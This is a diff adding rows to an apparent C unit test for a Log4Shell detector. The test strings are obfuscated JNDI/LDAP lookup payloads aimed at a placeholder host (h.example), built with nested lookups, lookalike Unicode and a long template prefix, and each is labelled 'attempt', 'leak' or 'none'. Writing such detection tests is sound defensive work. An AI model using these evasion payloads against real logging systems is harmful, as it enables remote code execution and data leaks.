@@ -230,6 +230,9 @@ static void dead_tries(void **state)
         ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt"),
         ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt"),
         ROW("${a ${b ${c:-${d", "none"),
+        /* behind more templates than are looked at closely */
+        ROW("${a}${b}${c}${d}${e}${f}${g}${h}${i}${j}${k}${l}${m}${n}${o}${p}${q}${r}$${jndi:ldap://h.example/a", "attempt"),
+        ROW("${a} ${hostName}", "leak"),
         ROW("${jnd\xc4\xb0:ldap://h.example/a}", "attempt"),
         ROW("${jnd${lower:\xc4\xb1}:ldap://h.example/a}", "attempt"),
         ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt"),
